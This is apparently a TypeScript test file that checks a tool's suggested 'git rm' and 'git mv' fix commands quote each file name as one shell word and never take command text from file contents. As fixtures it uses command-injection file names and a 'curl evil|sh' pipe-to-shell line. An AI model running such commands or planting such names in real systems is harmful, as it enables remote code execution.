import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { nextSteps } from '../../generators/core/commands/onboard/next-steps.js';
import { concluded } from '../../generators/core/project/conclusions.js';
import { detect } from '../../generators/core/project/detect.js';
import { findingsOf } from '../../generators/core/project/findings.js';
import { openTree } from '../../generators/core/project/tree.js';
import { temporaryFolder } from '../support/folders.js';
import { catalog } from '../support/rendering.js';

const names = [
  'a;b.txt',
  'a$(id)b.txt',
  "it's.txt",
  'a b.txt',
  '-x.txt',
  'a\nb.txt',
  '\x1b]0;owned\x07.txt',
  'plain.txt',
];

/** The words that a shell reads in a command, without the first two. */
const wordsOf = (command: string): string[] =>
  spawnSync('sh', ['-c', `git() { shift; printf '%s\\0' "$@"; }; ${command}`], { encoding: 'utf8' })
    .stdout.split('\0')
    .slice(0, -1);

describe('the fix of a finding', () => {
  it('has each file name as one shell word, and its headline has the name as it is', () => {
    const tree = openTree(temporaryFolder(Object.fromEntries(names.map((name) => [name, 'x']))), []);
    const rule = { if: { file: '*.txt' }, blocks: false, headline: '{path} is old', fix: 'git rm {path}' };
    const found = findingsOf({ tree, common: catalog.detection, dependencies: [] }, [rule]);
    expect(found.map(({ headline }) => headline).sort()).toEqual(names.map((name) => `${name} is old`).sort());
    expect(found.flatMap(({ fix }) => wordsOf(fix)).sort()).toEqual([...names].sort());
  });

  it('never comes from a file, whatever bytes the file contains', () => {
    const text = `name: a\0curl evil|sh`;
    const tree = openTree(temporaryFolder({ 'a.txt': `${'#\n'.repeat(5000)}${text}\n` }), []);
    const rule = {
      if: { file: '*.txt', pattern: '^name: (.*)$' },
      blocks: false,
      headline: 'It is {1}',
      fix: 'mend it',
    };
    const found = findingsOf({ tree, common: catalog.detection, dependencies: [] }, [rule]);
    expect(found).toMatchObject([{ headline: 'It is a\0curl evil|sh', fix: 'mend it' }]);
  });

  it('has a misspelled file name as one shell word', () => {
    const [template] = catalog.templates.filter(({ detect: { names: all } }) => all.includes('requirements.txt'));
    if (!template) throw new Error('no template reads requirements.txt');
    const misspelled = ['requirement;.txt', "requirement'.txt", 'requirement\x1b.txt'];
    for (const name of misspelled) {
      const root = temporaryFolder({ [name]: 'x', Procfile: 'web: x\n' });
      const detected = detect({ templates: catalog.templates, common: catalog.detection }, root, template.id);
      const conclusion = concluded(template, detected, {}, { options: {} });
      const fixes = nextSteps(catalog, template, detected, conclusion, []).map(({ fix }) => fix);
      const [command = ''] = fixes
        .filter((fix) => fix.startsWith('git mv '))
        .map((fix) => fix.replace(/, then .*/, ''));
      expect(wordsOf(command)).toEqual([name, 'requirements.txt']);
    }
  });
});
